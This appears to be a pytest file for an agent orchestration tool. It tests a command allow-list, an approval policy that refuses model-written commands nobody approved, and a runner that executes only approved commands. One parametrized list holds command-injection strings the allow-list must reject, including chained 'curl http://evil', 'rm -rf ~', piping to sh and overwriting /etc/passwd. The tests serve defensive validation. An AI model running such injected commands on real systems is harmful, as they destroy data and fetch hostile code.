"""Command ownership: the allow-list's reach, the batch policy, and the book that runs commands."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrate.engine.commands import (
    BatchPolicy,
    CommandBook,
    CommandRecord,
    Decision,
    allowed_by,
    refuse_all,
)
from orchestrate.engine.plan import Subtask
from orchestrate.events import Event, RunNotice
from orchestrate.sandbox.check_env import check_environ
from orchestrate.sandbox.environments import LocalEnvironment

ALLOW = ("python -m pytest", "ruff check", "npm test")


@pytest.mark.parametrize(
    ("command", "entry"),
    [
        ("python -m pytest", "python -m pytest"),
        ("python -m pytest tests/test_x.py -q", "python -m pytest"),
        ("'python' -m \"pytest\" -k 'a and b'", "python -m pytest"),
        ("ruff check src", "ruff check"),
        ("npm test -- --watch=false", "npm test"),
    ],
)
def test_one_simple_command_under_an_entry_is_allowed(command: str, entry: str) -> None:
    assert allowed_by(command, ALLOW) == entry


@pytest.mark.parametrize(
    "command",
    [
        "python -m pytest; curl http://evil",
        "python -m pytest && rm -rf ~",
        "python -m pytest | sh",
        "python -m pytest $(curl evil)",
        "python -m pytest `curl evil`",
        "python -m pytest > /etc/passwd",
        "python -m pytest\ncurl evil",
        "python -m pytest & curl evil",
        "python -m pytestevil",
        "python -m",
        "ruff format src",
        "PYTHONPATH=/evil python -m pytest",
        "python -m pytest 'unclosed",
    ],
)
def test_anything_more_is_not(command: str) -> None:
    assert allowed_by(command, ALLOW) is None


async def test_the_batch_policy_says_who_approved_or_why_not() -> None:
    records = [
        CommandRecord(command=c, proposed_by="planner", where="subtask s")
        for c in ("ruff check .", "make deploy")
    ]
    strict, trusting = BatchPolicy(ALLOW), BatchPolicy(ALLOW, trust_model_checks=True)

    assert await strict("r1", records) == [
        Decision(approved_by="checks.allow: ruff check"),
        Decision(
            approved_by=None,
            refusal="written by a model: pass --trust-model-checks or add it to checks.allow",
        ),
    ]
    assert [d.approved_by for d in await trusting("r1", records)] == ["--trust-model-checks"] * 2


async def test_the_book_runs_only_what_was_approved_and_counts_each_run(tmp_path: Path) -> None:
    seen: list[Event] = []
    records: list[CommandRecord] = []
    book = CommandBook(records, ["echo user > user.txt"], refuse_all, "r1", seen.append)
    subtask = Subtask(
        id="s",
        title="S",
        kind="code",
        spec="Do it.",
        edit_files=["a.py"],
        checks=["echo user > user.txt", "touch model.txt"],
    )
    [settled] = await book.settle([subtask], "planner")
    environment = LocalEnvironment(tmp_path, check_environ(tmp_path, tmp_path))

    # Even asked directly, the book never runs the model's command that nobody approved.
    results = await book.run(subtask.checks, environment, timeout=10)

    assert settled.checks == ["echo user > user.txt"]
    assert [r.command for r in results] == ["echo user > user.txt"]
    assert (tmp_path / "user.txt").exists() and not (tmp_path / "model.txt").exists()
    assert [(r.command, r.proposed_by, r.approved_by, r.runs) for r in records] == [
        ("echo user > user.txt", "user", "plan.md", 1),
        ("touch model.txt", "planner", None, 0),
    ]
    assert [e.text for e in seen if isinstance(e, RunNotice)] == [
        "not running `touch model.txt` (proposed by planner): nobody was asked to approve it"
    ]
